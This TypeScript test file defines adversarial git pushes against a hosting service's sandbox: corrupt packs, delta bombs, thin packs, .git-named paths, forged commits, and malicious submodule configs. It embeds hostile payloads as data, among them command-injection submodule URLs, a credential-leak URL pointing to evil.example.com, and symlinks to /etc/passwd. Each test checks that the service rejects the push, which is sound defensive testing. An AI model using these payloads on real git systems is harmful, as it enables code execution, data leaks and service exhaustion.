// Attempts with hand-made packs and objects, which the host's git has to unpack.
import { expect } from 'vitest'
import type { Attempt } from '../../attempt.ts'
import { gitScript, told } from '../../inside-python.ts'
import { expectAnswers, expectNothingPushed, pushed } from './pushes.ts'

const wall = 'packs are unpacked outside the repository, with all of git’s checks and bounds on size'

export const PACKS: readonly Attempt[] = [
  {
    id: 'pack-broken',
    group: 'git',
    tries:
      'push an invalid pack: wrong magic, version, count, checksum, lengths, types, truncated, trailing bytes, missing',
    wall,
    invariant: 4,
    mode: 'write',
    script: gitScript(String.raw`
COMMIT = commit_body(BASE_TREE, [BASE])
TIP = object_id('commit', COMMIT)
GOOD = pack(('commit', COMMIT))
def fixed(body):
    return body + hashlib.sha1(body).digest()
for label, data in {
    'none': b'', 'magic': b'KCAP' + GOOD[4:], 'version 4': pack_of([entry('commit', COMMIT)], version=4), 'more objects': pack_of([entry('commit', COMMIT)], count=2), 'fewer objects': pack_of([entry('commit', COMMIT), entry('blob', b'x')], count=1),
    'all the objects': pack_of([entry('commit', COMMIT)], count=2**32 - 1), 'checksum': GOOD[:-1] + bytes([GOOD[-1] ^ 1]), 'cut': GOOD[:-25], 'trailing': GOOD + b'evil', 'type 0': fixed(b'PACK' + bytes([0, 0, 0, 2, 0, 0, 0, 1, 0x05]) + zlib.compress(b'12345')),
    'type 5': fixed(b'PACK' + bytes([0, 0, 0, 2, 0, 0, 0, 1, 0x55]) + zlib.compress(b'12345')), 'size too small': fixed(b'PACK' + bytes([0, 0, 0, 2, 0, 0, 0, 1]) + size_bytes(3, 3) + zlib.compress(b'12345')), 'size too large': fixed(b'PACK' + bytes([0, 0, 0, 2, 0, 0, 0, 1]) + size_bytes(2**60, 3) + zlib.compress(b'12345')),
    'no zlib': fixed(b'PACK' + bytes([0, 0, 0, 2, 0, 0, 0, 1]) + size_bytes(5, 3) + b'12345'), 'an index': b'\xfftOc' + bytes(2000),
}.items():
    attempt(label, lambda: push([(ZERO, TIP, OWN)], data))`),
    verify(outcome) {
      for (const { label, statuses, text } of told(outcome)) {
        expect([label, statuses]).toEqual([label, [200]])
        expect([label, text]).toEqual([label, expect.stringContaining('ng refs/heads/glovebox-change')])
      }
      expectNothingPushed(outcome, 15)
    },
  },
  {
    id: 'pack-delta-bombs',
    group: 'git',
    tries: 'expand a small pack to gigabytes: one delta, a chain of deltas, zeros, a false size',
    wall,
    invariant: 0,
    mode: 'write',
    script: gitScript(String.raw`
def delta(base_size, copies, size=None):
    return size_bytes(base_size) + size_bytes(copies * base_size if size is None else size) + b'\x80' * copies
def ref_delta(base, body):
    return size_bytes(len(body), 7) + bytes.fromhex(base) + zlib.compress(body)
BLOB = b'a' * 0x10000
ID = object_id('blob', BLOB)
attempt('one delta to 3 GiB', lambda: push([(ZERO, BASE, OWN)], pack_of([entry('blob', BLOB), ref_delta(ID, delta(len(BLOB), 3 << 14))])))
def chain():
    parts, body, id = [entry('blob', BLOB)], BLOB, ID
    for _ in range(12):
        twice = b''.join(b'\x8f' + at.to_bytes(4, 'little') for at in list(range(0, len(body), 0x10000)) * 2)
        parts.append(ref_delta(id, size_bytes(len(body)) + size_bytes(len(body) * 2) + twice))
        body += body
        id = object_id('blob', body)
    return push([(ZERO, BASE, OWN)], pack_of(parts))
attempt('chain', chain)
attempt('zeros', lambda: push([(ZERO, BASE, OWN)], pack(('blob', bytes(140 << 20)))))
attempt('lie', lambda: push([(ZERO, BASE, OWN)], pack_of([entry('blob', BLOB), ref_delta(ID, delta(len(BLOB), 1, 2**62))])))
attempt('loop', lambda: push([(ZERO, BASE, OWN)], pack_of([ref_delta('a' * 40, delta(len(BLOB), 1))])))`),
    limits: { memory: '1 GiB' },
    verify(outcome) {
      const byLabel = new Map(told(outcome).map(({ label, text }) => [label, text]))
      for (const label of ['one delta to 3 GiB', 'chain', 'zeros', 'lie', 'loop'])
        expect([label, byLabel.get(label)]).toEqual([label, expect.stringMatching(/ng refs\/heads\/glovebox-change/)])
      expectNothingPushed(outcome, 5)
    },
  },
  {
    id: 'pack-thin',
    group: 'git',
    tries: 'send a delta whose base is only on the host, so that the host completes it and reveals the result',
    wall: 'thin packs are not completed',
    invariant: 1,
    mode: 'write',
    script: gitScript(String.raw`
README = git('rev-parse', 'HEAD:README.md')
SIZE = len(git('cat-file', 'blob', README)) + 1
def thin(base, size):
    body = size_bytes(size) + size_bytes(size) + b'\x90' + bytes([size])
    return size_bytes(len(body), 7) + bytes.fromhex(base) + zlib.compress(body)
attempt('of a file it may read', lambda: push([(ZERO, BASE, OWN)], pack_of([thin(README, SIZE)])))
attempt('of a file that is not there', lambda: push([(ZERO, BASE, OWN)], pack_of([thin('b' * 40, SIZE)])))
attempt('asked for', lambda: push([(ZERO, BASE, OWN)], pack_of([thin(README, SIZE)]), caps='report-status thin-pack'))`),
    verify(outcome) {
      const [there, absent, asked] = told(outcome)
      const answer = (text = '') => text.split('\r\n\r\n')[1]
      expect(answer(there?.text)).toBe(answer(absent?.text))
      expect(asked?.text).toContain('not offered here: thin-pack')
      expectNothingPushed(outcome, 3)
    },
  },
  {
    id: 'pack-unreferenced',
    group: 'git',
    tries: 'smuggle in objects that no pushed commit reaches, and commits that do not descend from the pinned one',
    wall: 'a change only has what its one ref reaches; its history must descend from the pinned commit',
    invariant: 8,
    mode: 'write',
    script: gitScript(String.raw`
HIDDEN = ('blob', b'hidden payload\n')
GOOD = ('commit', commit_body(BASE_TREE, [BASE], message='harmless\n'))
ORPHAN = ('commit', commit_body(BASE_TREE, []))
UNRELATED = ('commit', commit_body(BASE_TREE, [object_id(*ORPHAN)]))
attempt('orphan', lambda: push_objects(ORPHAN))
attempt('unrelated', lambda: push_objects(ORPHAN, UNRELATED))
attempt('a tree', lambda: push([(ZERO, BASE_TREE, OWN)]))
attempt('a tag', lambda: push_objects(('tag', f'object {BASE}\ntype commit\ntag v1\ntagger {PERSON}\n\nx\n'.encode())))
attempt('missing', lambda: push([(ZERO, 'c' * 40, OWN)]))
attempt('missing tree', lambda: push_objects(('commit', commit_body('d' * 40, [BASE]))))
attempt('missing parent', lambda: push_objects(('commit', commit_body(BASE_TREE, [BASE, 'e' * 40]))))
attempt('with a hidden blob', lambda: push_objects(HIDDEN, GOOD))
tell('hidden', object_id(*HIDDEN))
attempt('fetch it', lambda: fetch_v2(f'want {object_id(*HIDDEN)}', 'done'))
git('fetch', '-q', 'origin', OWN)
git('reset', '-q', '--hard', 'FETCH_HEAD')`),
    verify(outcome) {
      const answers = told(outcome)
      for (const { label, text } of answers.slice(0, 7))
        expect([label, text]).toEqual([
          label,
          expect.stringMatching(
            /ng refs\/heads\/glovebox-change (it does not descend|a branch must point to a commit|the commits need|its commits could not)/,
          ),
        ])
      expect(answers.at(-1)?.text).toContain('not our ref')
      expect(pushed(outcome).filter(({ accepted }) => accepted)).toHaveLength(1)
      expect(outcome.of('change.proposed')).toMatchObject([{ body: { files: 0 } }])
    },
  },
  {
    id: 'pack-dangerous-names',
    group: 'git',
    tries: 'name files .git in every spelling that a file system accepts; use .., slashes, duplicates, wrong order',
    wall: 'git fsck, with the rules for HFS+ and NTFS',
    invariant: 4,
    mode: 'write',
    script: gitScript(String.raw`
BLOB = ('blob', b'evil\n')
ID = object_id(*BLOB)
def named(*names, mode='100644', id=ID, raw_tree=None):
    tree = ('tree', raw_tree if raw_tree is not None else tree_body(*((mode, name, id) for name in names)))
    return push_objects(BLOB, tree, ('commit', commit_body(object_id(*tree), [BASE])))
for name in [b'.git', b'.GIT', b'.Git', b'git~1', b'GIT~1', b'.git.', b'.git ', b'.git::$INDEX_ALLOCATION', b'.g\xe2\x80\x8cit', b'.gi\xe2\x80\x8dt', b'..', b'.', b'a/b', b'../x', b'', b'.git\\hooks']:
    attempt(repr(name), lambda: named(name))
attempt('twice', lambda: named(b'a', b'a'))
attempt('wrong order', lambda: named(b'b', b'a'))
attempt('mode', lambda: named(b'a', mode='777777'))
attempt('padded mode', lambda: named(b'a', mode='0100644'))
attempt('null id', lambda: named(b'a', id=ZERO))
attempt('cut', lambda: named(raw_tree=b'100644 a\0' + b'x' * 10))
attempt('NUL in the mode', lambda: named(raw_tree=b'100\0' + b'644 a\0' + bytes.fromhex(ID)))`),
    verify(outcome) {
      expect(told(outcome)).toHaveLength(23)
      for (const { label, text } of told(outcome))
        expect([label, text]).toEqual([label, expect.stringMatching(/ng refs\/heads\/glovebox-change/)])
      expectNothingPushed(outcome, 23)
    },
  },
  {
    id: 'pack-dangerous-modules',
    group: 'git',
    tries:
      'add submodules that run commands or leave the tree: an option as URL or path, a name with .., a linked .gitmodules',
    wall: 'git fsck (CVE-2018-11235, CVE-2018-17456, CVE-2020-11008)',
    invariant: 4,
    mode: 'write',
    script: gitScript(String.raw`
def modules(text, mode='100644', name=b'.gitmodules'):
    blob = ('blob', text.encode())
    tree = ('tree', tree_body((mode, name, object_id(*blob))))
    return push_objects(blob, tree, ('commit', commit_body(object_id(*tree), [BASE])))
attempt('URL is an option', lambda: modules('[submodule "x"]\n\tpath = x\n\turl = --upload-pack=touch /tmp/owned\n'))
attempt('name climbs', lambda: modules('[submodule "../../evil"]\n\tpath = x\n\turl = https://example.com/x\n'))
attempt('path is an option', lambda: modules('[submodule "x"]\n\tpath = -x\n\turl = https://example.com/x\n'))
attempt('update runs a command', lambda: modules('[submodule "x"]\n\tpath = x\n\turl = https://example.com/x\n\tupdate = !touch /tmp/owned\n'))
attempt('credential in the URL', lambda: modules('[submodule "x"]\n\tpath = x\n\turl = https://example.com%0ahost=evil.example.com/x\n'))
attempt('a link', lambda: modules('/etc/passwd', '120000'))
attempt('not parsable', lambda: modules('[submodule "x"\n'))
attempt('other spelling', lambda: modules('[submodule "../x"]\n\turl = -x\n', name=b'.GITMODULES'))
attempt('linked attributes', lambda: modules('/etc/passwd', '120000', b'.gitattributes') + b'')
attempt('long attributes', lambda: modules('a' * 4000 + ' x\n', name=b'.gitattributes'))`),
    verify(outcome) {
      const lax = ['linked attributes', 'not parsable']
      for (const { label, text } of told(outcome).filter(({ label }) => !lax.includes(label)))
        expect([label, text]).toEqual([label, expect.stringMatching(/ng refs\/heads\/glovebox-change/)])
    },
  },
  {
    id: 'pack-dangerous-commits',
    group: 'git',
    tries:
      'push commits with NUL, two authors, no author, forged headers, newlines in names, times out of range, two trees',
    wall: 'git fsck',
    invariant: 12,
    mode: 'write',
    script: gitScript(String.raw`
PARENT = f'tree {BASE_TREE}\nparent {BASE}\n'
WHO = f'author {PERSON}\ncommitter {PERSON}\n'
for label, text in {
    'NUL': PARENT + WHO + '\nx\0hidden\n', 'NUL in a header': PARENT + WHO.replace('Glovebox', 'Glo\0vebox') + '\nx\n', 'two authors': PARENT + f'author {PERSON}\n' + WHO + '\nx\n', 'no author': PARENT + f'committer {PERSON}\n\nx\n',
    'no committer': PARENT + f'author {PERSON}\n\nx\n', 'no address': PARENT + WHO.replace('<', '').replace('>', '') + '\nx\n', 'address cut': PARENT + WHO.replace('>', '') + '\nx\n', 'time overflows': PARENT + WHO.replace('1700000000', '99999999999999999999') + '\nx\n',
    'no time': PARENT + WHO.replace(' 1700000000 +0000', '') + '\nx\n', 'zone': PARENT + WHO.replace('+0000', '+99999999') + '\nx\n', 'two trees': f'tree {BASE_TREE}\n' + PARENT + WHO + '\nx\n', 'parent first': f'parent {BASE}\ntree {BASE_TREE}\n' + WHO + '\nx\n', 'no tree': f'parent {BASE}\n' + WHO + '\nx\n', 'empty': '',
}.items():
    attempt(label, lambda: push_objects(('commit', text.encode())))`),
    verify(outcome) {
      expectAnswers(outcome, /ng refs\/heads\/glovebox-change/)
      expectNothingPushed(outcome, 14)
    },
  },
]
